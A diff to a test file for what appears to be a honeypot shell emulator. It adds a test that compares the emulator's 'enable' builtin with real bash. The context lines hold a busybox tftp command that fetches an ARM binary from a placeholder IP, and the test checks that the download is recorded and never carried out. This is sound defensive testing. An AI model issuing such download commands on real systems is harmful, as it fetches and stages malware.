@@ -49,3 +49,13 @@ async def test_busybox_wget_is_recorded_never_fetched(shell: Shell) -> None:
     assert shell.fs.exists("/tmp/.x") and not Path("/tmp/.x").exists()
     tftp = await shell.run("busybox tftp -g -r m.arm 198.51.100.7")
     assert tftp.downloads and tftp.downloads[0].url == "tftp://198.51.100.7/m.arm"
+
+
+async def test_enable_lists_bash_s_builtins_like_bash(shell: Shell) -> None:
+    bash = shutil.which("bash")
+    assert bash is not None
+    real_out = subprocess.run([bash, "-c", "enable"], capture_output=True, timeout=10).stdout
+    result = await shell.run("enable")
+    assert (result.status, result.stdout) == (0, real_out)
+    bad = await shell.run("enable nosuchbuiltin")
+    assert bad.status == 1 and bad.stderr == b"-bash: enable: nosuchbuiltin: not a shell builtin\n"
